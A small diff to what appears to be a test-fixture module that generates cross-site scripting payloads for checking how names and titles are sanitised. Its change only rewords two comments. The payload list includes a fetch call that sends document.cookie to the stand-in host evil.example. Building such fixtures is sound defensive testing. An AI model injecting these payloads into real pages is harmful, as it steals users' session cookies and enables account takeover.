@@ -1,4 +1,4 @@
-/** Texts that run in a browser which takes them for HTML, or for more than text in Markdown. */
+/** Texts that run scripts if a browser parses them as HTML, or as more than text in Markdown. */
 const actions = [
   'alert(1)',
   'fetch(`//evil.example/${document.cookie}`)',
@@ -103,7 +103,7 @@ const carriers = [
 
 export const crossSiteScripts: readonly string[] = carriers.flatMap((carry) => actions.map(carry))
 
-/** As text of one line: what the service takes for names and titles. */
+/** As a single line, which names and titles accept. */
 export const onOneLine = (script: string): string =>
   // oxlint-disable-next-line no-control-regex -- they are what must not stand there
   script.replaceAll(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, ' ')
